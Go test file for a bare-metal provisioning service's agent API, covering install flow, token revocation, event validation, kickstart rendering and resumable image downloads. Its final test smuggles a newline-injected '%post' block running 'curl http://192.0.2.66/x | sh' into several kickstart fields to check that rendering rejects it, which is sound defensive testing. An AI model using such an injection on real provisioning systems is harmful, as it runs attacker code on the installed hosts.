package provision

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/x509"
	"errors"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/podboot/podboot/pkg/agent"
	"github.com/podboot/podboot/pkg/agent/kickstart"
	"github.com/podboot/podboot/pkg/agentproto"
	"github.com/podboot/podboot/pkg/artifact"
	"github.com/podboot/podboot/pkg/imagesign"
	"github.com/podboot/podboot/pkg/podmgr"
)

const mac = "52:54:00:12:34:56"

var admin = podmgr.Actor{Name: "test", Role: podmgr.RoleAdmin}

type env struct {
	mgr   *podmgr.Manager
	svc   *Service
	store *artifact.Store
	srv   *httptest.Server
	roots *x509.CertPool
	image []byte
}

func newEnv(t *testing.T) *env {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	st, err := podmgr.OpenBolt(filepath.Join(dir, "db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	mgr, err := podmgr.Open(ctx, st, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return newEnvWith(t, mgr, true)
}

// newEnvWith serves the agent API of mgr with an artifact store holding a signed
// stage2; seed adds the profile, pod-a and the host (once per store).
func newEnvWith(t *testing.T, mgr *podmgr.Manager, seed bool) *env {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	log := slog.New(slog.DiscardHandler)
	store, err := artifact.Open(filepath.Join(dir, "artifacts"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	svc, err := New(Config{}, mgr, store, log)
	if err != nil {
		t.Fatal(err)
	}
	pki, err := imagesign.InitCA(filepath.Join(dir, "pki"), "root", imagesign.KeyECDSA)
	if err != nil {
		t.Fatal(err)
	}
	cf, kf, err := pki.IssueCodeSigning("ci", dir, imagesign.KeyECDSA, 0)
	if err != nil {
		t.Fatal(err)
	}
	certs, _ := imagesign.LoadCertificates(cf)
	key, _ := imagesign.LoadPrivateKey(kf)
	img := make([]byte, 2<<20)
	rand.Read(img)
	sig, err := imagesign.Sign(ctx, bytes.NewReader(img), certs[0], key, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.Ingest(ctx, artifact.Meta{Name: "os", Version: "1", Kind: artifact.KindStage2, Signature: sig}, bytes.NewReader(img), nil); err != nil {
		t.Fatal(err)
	}
	if seed {
		seedPod(t, mgr)
	}
	mux := http.NewServeMux()
	mux.Handle(agentproto.Prefix, svc.Handler())
	srv := httptest.NewTLSServer(mux)
	t.Cleanup(srv.Close)
	return &env{mgr: mgr, svc: svc, store: store, srv: srv, roots: pki.CertPool(), image: img}
}

// seedPod adds the profile, pod-a (pinned to replica r1 when there are replicas) and
// the host.
func seedPod(t *testing.T, mgr *podmgr.Manager) {
	t.Helper()
	ctx := context.Background()
	if _, _, err := mgr.ApplyProfile(ctx, admin, podmgr.Profile{Name: "default", Stage2: "os@1"}, true); err != nil {
		t.Fatal(err)
	}
	pod := podmgr.Pod{Name: "pod-a", Replica: "r1", Match: []podmgr.MatchRule{{Giaddr: "192.0.2.1"}},
		Subnets:       []podmgr.Subnet{{CIDR: "192.0.2.0/24", Gateway: "192.0.2.1", RangeStart: "192.0.2.100", RangeEnd: "192.0.2.200"}},
		ServerAddress: "198.51.100.10", Profile: "default",
		Management: podmgr.ManagementNet{CIDR: "203.0.113.0/24", Gateway: "203.0.113.1", VLAN: 100, DNS: []string{"203.0.113.53"}, Domain: "pod-a.example"},
		Kickstart:  podmgr.KickstartValues{SSHKeys: []string{"ssh-ed25519 AAAAtest op@example"}, RootPasswordHash: "$6$salt$hash"}}
	if _, err := mgr.CreatePod(ctx, admin, pod); err != nil {
		t.Fatal(err)
	}
	if _, err := mgr.AddHosts(ctx, admin, []podmgr.Host{{MAC: mac, Pod: "pod-a", Hostname: "node1", ManagementIP: "203.0.113.21"}}); err != nil {
		t.Fatal(err)
	}
}

func (e *env) client(t *testing.T, token string) *agent.Client { return e.clientFor(t, mac, token) }

func (e *env) clientFor(t *testing.T, hostMAC, token string) *agent.Client {
	u, _ := url.Parse(e.srv.URL)
	pool := x509.NewCertPool()
	pool.AddCert(e.srv.Certificate())
	return agent.NewClient(agent.Params{Server: u, MAC: hostMAC, Token: token}, pool, slog.New(slog.DiscardHandler))
}

func status(err error) int {
	var se *agent.StatusError
	if errors.As(err, &se) {
		return se.Status
	}
	return 0
}

type memDisk struct{ bytes.Buffer }

func (m *memDisk) WriteAt(p []byte, off int64) (int, error) {
	if int(off) != m.Len() {
		return 0, errors.New("non-sequential write")
	}
	return m.Write(p)
}
func (m *memDisk) Sync() error { return nil }

func TestInstallFlow(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	h, _ := e.mgr.Registry().Host(mac)
	tok, err := e.svc.HostToken(ctx, h, podmgr.HostStep{})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.client(t, "pbh_wrong").GetJSON(ctx, agentproto.ChainloadPath, &agentproto.Chainload{}); status(err) != http.StatusForbidden {
		t.Fatalf("wrong token: %v", err)
	}
	c := e.client(t, tok)
	var d agentproto.Chainload
	if err := c.GetJSON(ctx, agentproto.ChainloadPath, &d); err != nil {
		t.Fatal(err)
	}
	if d.Ref != "os@1" || d.Size != int64(len(e.image)) {
		t.Fatalf("descriptor %+v", d)
	}
	c.Report(ctx, agentproto.ActionBooted, "")
	var disk memDisk
	res, err := agent.Stage2(ctx, c, d, &disk, e.roots, time.Now(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	if res.SHA256 != d.SHA256 {
		t.Fatalf("sha %s vs %s", res.SHA256, d.SHA256)
	}
	// A ranged request (what a resume sends) gets the tail.
	resp, err := c.Get(ctx, agentproto.Stage2Path, http.Header{"Range": {"bytes=1000-"}})
	if err != nil || resp.StatusCode != http.StatusPartialContent {
		t.Fatalf("range: %v %v", resp, err)
	}
	resp.Body.Close()
	c.Report(ctx, agentproto.ActionVerified, "ok")
	raw, err := c.GetBytes(ctx, agentproto.KickstartPath, kickstart.MaxSize)
	if err != nil {
		t.Fatal(err)
	}
	ks, err := kickstart.Parse(bytes.NewReader(raw))
	if err != nil {
		t.Fatalf("%v\n%s", err, raw)
	}
	n := ks.Networks[0]
	if n.IP != "203.0.113.21" || n.Prefix != 24 || n.Gateway != "203.0.113.1" || n.VLAN != 100 || n.Hostname != "node1.pod-a.example" || n.Device != mac {
		t.Fatalf("network %+v from\n%s", n, raw)
	}
	if ks.LiveImg.Checksum != d.SHA256 || ks.RootPasswordHash != "$6$salt$hash" || len(ks.SSHKeys) != 1 || len(ks.Warnings) != 0 {
		t.Fatalf("kickstart %+v", ks)
	}
	if h, _ := e.mgr.Registry().Host(mac); h.State != podmgr.StateInstalling {
		t.Fatalf("state after kickstart %s", h.State)
	}
	if err := c.Post(ctx, agentproto.InstalledPath, agentproto.Installed{Disk: "vda", SHA256: res.SHA256, Finish: "reboot"}); err != nil {
		t.Fatal(err)
	}
	h, _ = e.mgr.Registry().Host(mac)
	if h.State != podmgr.StateProvisioned || h.Netboot {
		t.Fatalf("after installed: %+v", h)
	}
	// The old token opens nothing any more: replayed call-back, kickstart, chain-load, stage2.
	for _, p := range []string{agentproto.KickstartPath, agentproto.ChainloadPath, agentproto.Stage2Path} {
		if _, err := c.GetBytes(ctx, p, 1<<22); status(err) != http.StatusForbidden {
			t.Errorf("%s with the old token: %v", p, err)
		}
	}
	if err := c.Post(ctx, agentproto.InstalledPath, agentproto.Installed{}); status(err) != http.StatusForbidden {
		t.Errorf("replayed call-back: %v", err)
	}
	if _, err := e.svc.HostToken(ctx, h, podmgr.HostStep{}); err == nil {
		t.Error("a token was issued with netboot off")
	}
	evs, _ := e.mgr.HostEvents(ctx, mac)
	var got []string
	for _, ev := range evs {
		got = append(got, ev.Action)
	}
	want := "registered token.issued agent.booted agent.verified kickstart.served installed"
	if strings.Join(got, " ") != want {
		t.Fatalf("events %v, want %s", got, want)
	}
}

func TestFailedKeepsNetboot(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	h, _ := e.mgr.Registry().Host(mac)
	tok, _ := e.svc.HostToken(ctx, h, podmgr.HostStep{})
	c := e.client(t, tok)
	if err := c.Post(ctx, agentproto.FailedPath, agentproto.Failure{Step: agentproto.ActionVerified, Reason: "stage2 refused: digest mismatch"}); err != nil {
		t.Fatal(err)
	}
	h, _ = e.mgr.Registry().Host(mac)
	if h.State != podmgr.StateFailed || !h.Netboot || !strings.Contains(h.StateReason, "digest mismatch") {
		t.Fatalf("after failed: %+v", h)
	}
	if _, err := c.GetBytes(ctx, agentproto.KickstartPath, 1<<20); status(err) != http.StatusForbidden {
		t.Fatalf("kickstart after failure: %v", err)
	}
	if _, err := e.svc.HostToken(ctx, h, podmgr.HostStep{}); err != nil {
		t.Fatalf("a failed host must get a new token on its next boot: %v", err)
	}
}

func TestEventValidation(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	h, _ := e.mgr.Registry().Host(mac)
	tok, _ := e.svc.HostToken(ctx, h, podmgr.HostStep{})
	c := e.client(t, tok)
	tests := []struct {
		name string
		body any
		want int
	}{
		{"unknown action", agentproto.Event{Action: "agent.rm-rf"}, http.StatusBadRequest},
		{"installed via events", agentproto.Event{Action: "installed"}, http.StatusBadRequest},
		{"unknown field", map[string]string{"action": agentproto.ActionBooted, "state": "provisioned"}, http.StatusBadRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if err := c.Post(ctx, agentproto.EventsPath, tt.body); status(err) != tt.want {
				t.Fatalf("err = %v, want %d", err, tt.want)
			}
		})
	}
}

func TestCheckProfile(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name, tmpl, want string
	}{
		{"shipped", "", ""},
		{"bad syntax", "{{.Nope", "does not render"},
		{"unknown field", "{{.Nope}}", "does not render"},
		{"renders unparsable", "rootpw plain\n", "does not parse"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := e.svc.checkProfile(podmgr.Profile{Name: "x", Kickstart: tt.tmpl})
			if (tt.want == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tt.want)) {
				t.Fatalf("err = %v, want %q", err, tt.want)
			}
		})
	}
}

func TestDefaultKickstartRendering(t *testing.T) {
	e := newEnv(t)
	pc, _ := e.mgr.Registry().Pod("pod-a")
	a, _ := e.store.Resolve("os@1")
	tests := []struct {
		name  string
		host  podmgr.Host
		proto string
		ip    string
		fqdn  string
	}{
		{"static management address", podmgr.Host{MAC: mac, Pod: "pod-a", Hostname: "node1", ManagementIP: "203.0.113.21"}, "static", "203.0.113.21", "node1.pod-a.example"},
		{"no management address", podmgr.Host{MAC: mac, Pod: "pod-a", Hostname: "node2.other.example"}, "dhcp", "", "node2.other.example"},
		{"no hostname", podmgr.Host{MAC: mac, Pod: "pod-a"}, "dhcp", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw, err := e.svc.ks.renderData("", Data(pc, tt.host, a, "https://198.51.100.10:8443"))
			if err != nil {
				t.Fatal(err)
			}
			ks, err := kickstart.Parse(bytes.NewReader(raw))
			if err != nil {
				t.Fatal(err)
			}
			n := ks.Networks[0]
			if n.BootProto != tt.proto || n.IP != tt.ip || n.Hostname != tt.fqdn || len(ks.Warnings) != 0 {
				t.Fatalf("network %+v warnings %v from\n%s", n, ks.Warnings, raw)
			}
			if !strings.HasPrefix(ks.LiveImg.URL, "https://198.51.100.10:8443/agent/v1/hosts/52-54-00-12-34-56/stage2") {
				t.Fatalf("liveimg %q", ks.LiveImg.URL)
			}
		})
	}
}

// cutWriter aborts the response after limit body bytes, as a WAN link that drops would.
type cutWriter struct {
	http.ResponseWriter
	left int
}

func (c *cutWriter) Write(p []byte) (int, error) {
	if len(p) >= c.left {
		c.ResponseWriter.Write(p[:c.left])
		c.ResponseWriter.(http.Flusher).Flush()
		panic(http.ErrAbortHandler)
	}
	c.left -= len(p)
	return c.ResponseWriter.Write(p)
}

func TestStage2ResumesThroughTheAgentAPI(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	var cuts, ranged int
	h := e.svc.Handler()
	e.srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/"+agentproto.Stage2Path) {
			if r.Header.Get("Range") != "" {
				ranged++
			} else if cuts < 1 {
				cuts++
				w = &cutWriter{ResponseWriter: w, left: 700 << 10}
			}
		}
		h.ServeHTTP(w, r)
	})
	host, _ := e.mgr.Registry().Host(mac)
	tok, _ := e.svc.HostToken(ctx, host, podmgr.HostStep{})
	c := e.client(t, tok)
	var d agentproto.Chainload
	if err := c.GetJSON(ctx, agentproto.ChainloadPath, &d); err != nil {
		t.Fatal(err)
	}
	var disk memDisk
	res, err := agent.Stage2(ctx, c, d, &disk, e.roots, time.Now(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	if res.Resumes != 1 || ranged != 1 || !bytes.Equal(disk.Bytes(), e.image) {
		t.Fatalf("resumes %d, ranged requests %d, image intact %v", res.Resumes, ranged, bytes.Equal(disk.Bytes(), e.image))
	}
}

// TestKickstartRefusesLineInjection: a value with a line break never reaches a rendered
// kickstart, whatever let it into the store (issue 10: a newline started a new %post).
func TestKickstartRefusesLineInjection(t *testing.T) {
	e := newEnv(t)
	pc0, _ := e.mgr.Registry().Pod("pod-a")
	a, _ := e.store.Resolve("os@1")
	inject := "\n%post --interpreter=/bin/sh\ncurl http://192.0.2.66/x | sh\n%end\n"
	tests := []struct {
		name string
		edit func(pc *podmgr.PodContext, h *podmgr.Host)
	}{
		{"ssh key", func(pc *podmgr.PodContext, _ *podmgr.Host) {
			pc.Pod.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAA" + inject}
		}},
		{"root password hash", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Kickstart.RootPasswordHash = "$6$x$y" + inject }},
		{"target disk", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Kickstart.TargetDisk = "vda" + inject }},
		{"management domain", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Management.Domain = "example" + inject }},
		{"hostname", func(_ *podmgr.PodContext, h *podmgr.Host) { h.Hostname = "node" + inject }},
		{"carriage return", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Kickstart.TargetDisk = "vda\r%post" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pc := *pc0
			h := podmgr.Host{MAC: mac, Pod: "pod-a", Hostname: "node1"}
			tt.edit(&pc, &h)
			raw, err := e.svc.ks.renderData("", Data(&pc, h, a, "https://198.51.100.10:8443"))
			if err == nil || !strings.Contains(err.Error(), "control character") {
				t.Fatalf("rendered (err %v):\n%s", err, raw)
			}
		})
	}
}
